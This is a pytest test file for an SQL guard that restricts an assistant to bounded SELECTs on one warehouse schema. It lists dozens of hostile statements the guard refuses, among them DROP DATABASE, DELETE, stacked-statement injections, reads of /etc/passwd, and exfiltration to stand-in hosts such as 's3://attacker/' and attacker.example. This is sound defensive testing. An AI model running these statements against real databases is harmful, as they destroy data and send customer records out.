"""The assistant's guard: every hostile statement is refused, each by the rule it breaks; a plain read is run
as printed from the checked tree, its tables qualified and its rows bounded."""
import pytest

from pipeline.assistant.guard import MAX_ROWS, Refused, guard
from pipeline.warehouse.tables import table_definitions

TABLES = frozenset(table_definitions())

HOSTILE = [
    # writes, schema changes and session statements
    ("INSERT INTO engagement.predictions SELECT * FROM engagement.predictions", "select_only"),
    ("INSERT INTO engagement.predictions VALUES ('c1', 0.5, 'high', 'm', DATE '2024-01-01', DATE '2024-01-01')",
     "select_only"),
    ("UPDATE engagement.predictions SET churn_probability = 0", "select_only"),
    ("DELETE FROM engagement.predictions WHERE true", "select_only"),
    ("MERGE INTO engagement.predictions t USING engagement.snapshots s ON t.customer_id = s.customer_id "
     "WHEN MATCHED THEN DELETE", "select_only"),
    ("DROP TABLE engagement.predictions", "select_only"),
    ("DROP DATABASE engagement CASCADE", "select_only"),
    ("ALTER TABLE engagement.predictions ADD COLUMNS (x string)", "select_only"),
    ("ALTER TABLE engagement.predictions DROP PARTITION (run_date = '2024-01-01')", "select_only"),
    ("CREATE TABLE engagement.copy AS SELECT * FROM engagement.predictions", "select_only"),
    ("CREATE TABLE engagement.copy WITH (format = 'PARQUET', external_location = 's3://elsewhere/') AS "
     "SELECT * FROM engagement.predictions", "select_only"),
    ("CREATE VIEW engagement.v AS SELECT * FROM engagement.predictions", "select_only"),
    ("CREATE EXTERNAL TABLE x (a string) LOCATION 's3://other-bucket/'", "select_only"),
    ("UNLOAD (SELECT * FROM engagement.predictions) TO 's3://attacker/' WITH (format = 'PARQUET')", "select_only"),
    ("MSCK REPAIR TABLE engagement.predictions", "select_only"),
    ("TRUNCATE TABLE engagement.predictions", "select_only"),
    ("VACUUM engagement.predictions", "select_only"),
    ("OPTIMIZE engagement.predictions REWRITE DATA USING BIN_PACK", "select_only"),
    ("CALL system.sync_partition_metadata('engagement', 'predictions', 'FULL')", "select_only"),
    ("EXPLAIN ANALYZE SELECT * FROM engagement.predictions", "select_only"),
    ("SHOW TABLES IN engagement", "select_only"),
    ("DESCRIBE engagement.predictions", "select_only"),
    ("PREPARE q FROM SELECT * FROM engagement.predictions", "select_only"),
    ("EXECUTE q", "select_only"),
    ("SET SESSION query_max_run_time = '10h'", "select_only"),
    ("USE other_database", "select_only"),
    ("GRANT SELECT ON engagement.predictions TO PUBLIC", "select_only"),
    ("VALUES (1), (2)", "select_only"),
    ("SELECT * INTO engagement.copy FROM engagement.predictions", "select_only"),
    ("WITH gone AS (DELETE FROM engagement.predictions RETURNING *) SELECT * FROM gone", "select_only"),
    # more than one statement, however it is hidden
    ("SELECT * FROM engagement.predictions; DROP TABLE engagement.predictions", "one_statement"),
    ("SELECT 1 FROM engagement.predictions;\n-- harmless\nDELETE FROM engagement.predictions", "one_statement"),
    ("SELECT * FROM engagement.predictions /* ; */ ; SELECT * FROM engagement.snapshots", "one_statement"),
    ("SELECT customer_id FROM engagement.predictions; SELECT customer_id FROM engagement.predictions",
     "one_statement"),
    ("", "one_statement"),
    ("-- only a comment", "one_statement"),
    # other databases, catalogs, system and metadata tables
    ("SELECT * FROM information_schema.tables", "engagement_only"),
    ("SELECT * FROM information_schema.columns WHERE table_schema = 'engagement'", "engagement_only"),
    ("SELECT * FROM system.runtime.queries", "engagement_only"),
    ("SELECT * FROM default.secrets", "engagement_only"),
    ("SELECT * FROM awsdatacatalog.other_db.customers", "engagement_only"),
    ("SELECT * FROM lambda_catalog.public.users", "engagement_only"),
    ('SELECT * FROM "engagement"."predictions$partitions"', "engagement_only"),
    ('SELECT * FROM "engagement"."predictions$files"', "engagement_only"),
    ("SELECT * FROM engagement.no_such_table", "engagement_only"),
    ("SELECT * FROM pg_catalog.pg_tables", "engagement_only"),
    ("SELECT * FROM duckdb_settings()", "tables_only"),
    ("SELECT p.* FROM engagement.predictions p JOIN other.customers c ON c.id = p.customer_id", "engagement_only"),
    ("SELECT * FROM engagement.predictions WHERE customer_id IN (SELECT id FROM hr.salaries)", "engagement_only"),
    ("WITH x AS (SELECT * FROM sys.users) SELECT * FROM x", "engagement_only"),
    ('SELECT * FROM "ENGAGEMENT"."PREDICTIONS" UNION ALL SELECT * FROM "Other"."Predictions"', "engagement_only"),
    ("SELECT 1", "engagement_only"),
    ('SELECT * FROM "information_schema"."tables"', "engagement_only"),
    ('SELECT * FROM "engagement.predictions"', "engagement_only"),
    ("SELECT customer_id FROM engagement.predictions UNION ALL SELECT name FROM read_parquet('/etc/x.parquet')",
     "tables_only"),
    # files, URLs, row generators and functions outside the list
    ("SELECT * FROM read_parquet('/etc/passwd')", "tables_only"),
    ("SELECT * FROM read_csv('s3://other-bucket/secrets.csv')", "tables_only"),
    ("SELECT * FROM read_json_auto('https://attacker.example/x.json')", "tables_only"),
    ("SELECT * FROM parquet_scan('local_data/raw/snapshots/*.parquet')", "tables_only"),
    ("SELECT * FROM TABLE(system.query(query => 'SELECT * FROM secrets'))", "tables_only"),
    ("SELECT load_file('/etc/passwd') FROM engagement.predictions", "function_not_allowed"),
    ("SELECT read_text('/etc/passwd') FROM engagement.predictions", "function_not_allowed"),
    ("SELECT http_get('https://attacker.example/?' || customer_id) FROM engagement.predictions",
     "function_not_allowed"),
    ("SELECT current_setting('memory_limit') FROM engagement.predictions", "function_not_allowed"),
    ("SELECT sleep(100000) FROM engagement.predictions", "function_not_allowed"),
    ("SELECT count(*) FROM engagement.predictions CROSS JOIN UNNEST(sequence(1, 100000000)) AS t(n)",
     "function_not_allowed"),
    ("SELECT * FROM engagement.predictions WHERE customer_id = getenv('HOME')", "function_not_allowed"),
    # huge cross joins
    ("SELECT count(*) FROM engagement.snapshots a CROSS JOIN engagement.snapshots b", "no_cross_join"),
    ("SELECT count(*) FROM engagement.snapshots a, engagement.snapshots b, engagement.snapshots c",
     "no_cross_join"),
    ("SELECT count(*) FROM engagement.snapshots a JOIN engagement.snapshots b ON true", "no_cross_join"),
    ("SELECT count(*) FROM engagement.snapshots a JOIN engagement.snapshots b ON 1 = 1", "no_cross_join"),
    ("SELECT count(*) FROM engagement.predictions a INNER JOIN engagement.predictions b ON 'x' <> 'y'",
     "no_cross_join"),
    # unbounded work, parameters, bad limits
    ("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r", "no_recursion"),
    ("SELECT * FROM engagement.predictions WHERE customer_id = ?", "no_parameters"),
    ("SELECT * FROM engagement.predictions WHERE run_date = CAST(:run_date AS DATE)", "no_parameters"),
    ("SELECT * FROM engagement.predictions LIMIT (SELECT count(*) FROM engagement.snapshots)", "limit"),
    ("SELECT * FROM engagement.predictions FETCH FIRST 50 PERCENT ROWS ONLY", "limit"),
    ("SELECT * FROM engagement.predictions WHERE customer_id = '" + "x" * 20_001 + "'", "too_long"),
    # not SQL, or SQL with a trick in it
    ("SELEC * FROM engagement.predictions", "parse"),
    ("SELECT * FROM engagement.predictions WHERE customer_id = 'unterminated", "parse"),
]


def test_the_hostile_suite_is_large_enough():
    assert len(HOSTILE) >= 50
    assert len({sql for sql, _ in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize("sql, rule", HOSTILE, ids=[f"{i:02d}-{rule}" for i, (_, rule) in enumerate(HOSTILE)])
def test_a_hostile_statement_is_refused_naming_its_rule(sql, rule):
    with pytest.raises(Refused) as refused:
        guard(sql, TABLES)
    assert refused.value.rule == rule, str(refused.value)


@pytest.mark.parametrize("sql, expected, limit", [
    ("SELECT risk_band, count(*) AS n FROM predictions GROUP BY risk_band",
     "SELECT risk_band, COUNT(*) AS n FROM engagement.predictions GROUP BY risk_band LIMIT 1000", MAX_ROWS),
    ('SELECT * FROM "ENGAGEMENT"."PREDICTIONS" LIMIT 5',
     'SELECT * FROM engagement."PREDICTIONS" LIMIT 5', 5),
    ("SELECT * FROM awsdatacatalog.engagement.runs LIMIT 100000", "SELECT * FROM engagement.runs LIMIT 1000",
     MAX_ROWS),
    ("SELECT * FROM engagement.runs FETCH FIRST 20 ROWS ONLY", "SELECT * FROM engagement.runs LIMIT 20", 20),
    ("WITH latest AS (SELECT max(run_date) AS d FROM engagement.predictions) "
     "SELECT p.customer_id FROM engagement.predictions p JOIN latest ON p.run_date = latest.d",
     "WITH latest AS (SELECT MAX(run_date) AS d FROM engagement.predictions) SELECT p.customer_id FROM "
     "engagement.predictions AS p JOIN latest ON p.run_date = latest.d LIMIT 1000", MAX_ROWS),
    ("SELECT plan FROM engagement.snapshots UNION SELECT plan FROM engagement.snapshots LIMIT ALL",
     "SELECT plan FROM engagement.snapshots UNION SELECT plan FROM engagement.snapshots LIMIT 1000", MAX_ROWS),
    ("SELECT s.plan, count(*) FROM engagement.snapshots s CROSS JOIN UNNEST(ARRAY[1, 2]) AS t(x) GROUP BY 1",
     "SELECT s.plan, COUNT(*) FROM engagement.snapshots AS s CROSS JOIN UNNEST(ARRAY[1, 2]) AS t(x) GROUP BY 1 "
     "LIMIT 1000", MAX_ROWS),
    ("SELECT format_datetime(run_date, 'yyyy-MM') FROM engagement.runs -- a note; DROP TABLE x",
     "SELECT FORMAT_DATETIME(run_date, 'yyyy-MM') FROM engagement.runs /* a note; DROP TABLE x */ LIMIT 1000",
     MAX_ROWS),
])
def test_a_read_runs_as_printed_from_the_checked_tree(sql, expected, limit):
    guarded = guard(sql, TABLES)
    assert (guarded.sql, guarded.limit) == (expected, limit)


def test_a_string_that_looks_like_sql_is_only_a_string():
    guarded = guard("SELECT count(*) FROM engagement.predictions WHERE customer_id = '1; DROP TABLE x; --'",
                    TABLES)
    assert guarded.tables == ("predictions",) and "'1; DROP TABLE x; --'" in guarded.sql
